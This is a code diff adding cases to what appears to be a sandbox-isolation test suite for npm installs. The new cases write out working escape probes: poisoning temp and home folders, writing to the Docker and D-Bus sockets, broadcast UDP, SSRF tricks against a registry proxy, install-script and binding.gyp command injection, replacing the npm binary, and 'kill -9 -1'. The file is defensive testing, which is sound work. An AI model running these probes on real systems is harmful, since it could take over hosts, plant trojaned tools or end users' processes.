@@ -10,6 +10,10 @@ import type { Ground } from './ground.ts';
 /** Datagrams and refusals on loopback are there within a few milliseconds. */
 const SETTLE_MS = 100;
 
+/** Where a trial could leave something for the next one. The project itself is made anew for each. */
+const LATER_PLACES =
+  '/tmp/tandem-poison /var/tmp/tandem-poison /dev/shm/tandem-poison ~/tandem-poison /tandem/tandem-poison /tandem/launchers/tandem-poison "${TMPDIR:-/tmp}/tandem-poison"';
+
 export const REACHING: readonly Attack[] = [
   {
     name: 'sends data out by TCP',
@@ -165,6 +169,145 @@ export const REACHING: readonly Attack[] = [
       return victim.signalCode === null && !stdout.includes('opened') ? null : 'the process of the host was reached';
     },
     control: detects,
+  },
+  {
+    name: 'poisons a later trial',
+    tries: 'It leaves files wherever the next trial could look: temporary folders, home, settings, our own tools.',
+    argv: ({ canary }) => shell(`for place in ${LATER_PLACES}; do echo ${canary} >$place 2>/dev/null; done; true`),
+    later: () => shell(`for place in ${LATER_PLACES}; do cat $place 2>/dev/null && rm -f $place; done; true`),
+    ends: ['exited'],
+    escaped: ({ canary }, { stdout }) => (stdout.includes(canary) ? 'the next trial met the poison' : null),
+    control: detects,
+  },
+  {
+    name: 'speaks with a service of the host',
+    tries: 'It connects to sockets of the host: by path, by a name without a path, and those of well-known services.',
+    argv: ({ localSockets }) => [
+      'node',
+      '-e',
+      `for (const path of [...${JSON.stringify(localSockets)}, '/var/run/docker.sock', '/run/dbus/system_bus_socket'])
+         require('net').connect({ path, timeout: 500 }, function () { this.end('stolen'); })
+           .on('error', () => {}).on('timeout', function () { this.destroy(); });`,
+    ],
+    ends: ['exited'],
+    escaped: wasContacted,
+    control: detects,
+  },
+  {
+    name: 'sends datagrams to everybody',
+    tries: 'It sends to the host, to the whole network and to groups.',
+    argv: ({ udpPort }) => [
+      'node',
+      '-e',
+      `const socket = require('dgram').createSocket('udp4').on('error', () => {});
+       socket.bind(() => {
+         socket.setBroadcast(true);
+         const all = [...${JSON.stringify(addresses())}, '255.255.255.255', '224.0.0.1'];
+         let open = all.length;
+         for (const host of all) socket.send('stolen', ${udpPort}, host, () => (open -= 1) === 0 && socket.close());
+       });`,
+    ],
+    ends: ['exited'],
+    escaped: wasContacted,
+    control: detects,
+  },
+  {
+    name: 'uses the registry’s proxy as a way out',
+    tries: 'It asks the proxy for other hosts: by whole address, by tunnel, by host header, by tricks in the path.',
+    phase: 'install',
+    argv: ({ tcpPort }) => [
+      'node',
+      '-e',
+      `(async () => {
+        const { port } = new URL(process.env.npm_config_registry);
+        const out = '127.0.0.1:${tcpPort}';
+        const ask = (options) => new Promise((done) => require('http')
+          .request({ port, timeout: 500, ...options }, (answer) => answer.resume().on('end', done))
+          .on('connect', (_, socket) => { socket.end('GET / HTTP/1.0\\r\\n\\r\\n'); done(); })
+          .on('timeout', function () { this.destroy(); }).on('error', done).end());
+        await ask({ method: 'CONNECT', path: out });
+        for (const path of ['http://' + out + '/', '//' + out + '/', '/http://' + out + '/', '/@' + out + '/', '/\\\\' + out])
+          await ask({ path });
+        await ask({ path: '/', headers: { host: out, 'x-forwarded-host': out } });
+        await ask({ host: '127.0.0.1', port: ${tcpPort}, path: '/' });
+      })()`,
+    ],
+    ends: ['exited'],
+    escaped: wasContacted,
+    control: detects,
+  },
+  {
+    name: 'names its tarballs elsewhere',
+    tries: 'A dependency’s dependency and a lockfile name an address outside of the registry.',
+    phase: 'install',
+    files: ({ tcpPort }) => ({
+      'package.json': `{"name":"a","version":"1.0.0","dependencies":{"x":"http://127.0.0.1:${tcpPort}/x.tgz"}}`,
+      'package-lock.json': `{"name":"a","version":"1.0.0","lockfileVersion":3,"packages":{"":{"name":"a","version":"1.0.0","dependencies":{"x":"http://127.0.0.1:${tcpPort}/x.tgz"}},"node_modules/x":{"version":"1.0.0","resolved":"http://127.0.0.1:${tcpPort}/x.tgz"}}}`,
+    }),
+    argv: () => ['npm', 'install', '--fetch-retries=0'],
+    ends: ['exited'],
+    escaped: wasContacted,
+    control: none('tarballs are asked from the registry there too, whatever host they name'),
+  },
+  {
+    name: 'turns install scripts on',
+    tries: 'Its settings allow scripts, name a script shell and load code into Node.',
+    phase: 'install',
+    files: () => ({
+      'package.json':
+        '{"name":"a","version":"1.0.0","scripts":{"preinstall":"touch pwned","postinstall":"touch pwned"},"config":{"ignore-scripts":false}}',
+      '.npmrc': 'ignore-scripts=false\nnode-options=--require=/project/evil.js\nonload-script=./evil.js\n',
+      'evil.js': 'require("fs").writeFileSync("pwned", "")',
+    }),
+    argv: () => ['npm', 'install'],
+    ends: ['exited'],
+    escaped: (ground) => hasAppeared(ground, 'pwned'),
+    control: none('scripts are off there too'),
+  },
+  {
+    name: 'builds at install without a script',
+    tries: 'A dependency has a binding.gyp, which npm builds unasked when scripts are on.',
+    phase: 'install',
+    files: () => ({ 'package.json': '{"name":"a","version":"1.0.0","dependencies":{"gyp":"1.0.0"}}' }),
+    packages: [
+      {
+        name: 'gyp',
+        version: '1.0.0',
+        manifest: { gypfile: true },
+        files: { 'binding.gyp': '{"targets":[{"target_name":"x","sources":["<!(touch /project/pwned)"]}]}' },
+      },
+    ],
+    argv: () => ['npm', 'install'],
+    ends: ['exited'],
+    escaped: (ground) => hasAppeared(ground, 'pwned'),
+    control: none('scripts are off there too'),
+  },
+  {
+    name: 'stands in for npm and node',
+    tries: 'It brings programs of their names, and the next trial must not run them.',
+    files: () =>
+      Object.fromEntries(
+        ['node_modules/.bin/npm', 'node_modules/.bin/node', 'npm', 'node', 'node_modules/npm/bin/npm-cli.js'].map(
+          (path) => [path, '#!/bin/sh\ntouch /project/pwned\n'],
+        ),
+      ),
+    argv: () => shell('cp npm ~/npm; cp npm /tmp/npm; cp npm /usr/bin/npm; cp npm /tandem/launchers/npm; true'),
+    later: () => ['npm', '--version'],
+    ends: ['exited'],
+    escaped: (ground, { stdout }) =>
+      hasAppeared(ground, 'pwned') ?? (/^\d+\.\d+\.\d+\n$/.test(stdout) ? null : `npm said ${stdout}`),
+    control: none('it would write over the host’s programs'),
+  },
+  {
+    name: 'ends everything it may',
+    tries: 'It signals every process it can see, and the groups of its parents.',
+    argv: () => shell('kill -9 -1; kill -9 0 1; true'),
+    ends: ['exited', 'killed'],
+    async escaped({ victim }) {
+      await wait(SETTLE_MS);
+      return victim.signalCode === null ? null : 'a process of the host was ended';
+    },
+    control: none('it would end whatever its user runs'),
   },
 ];
 
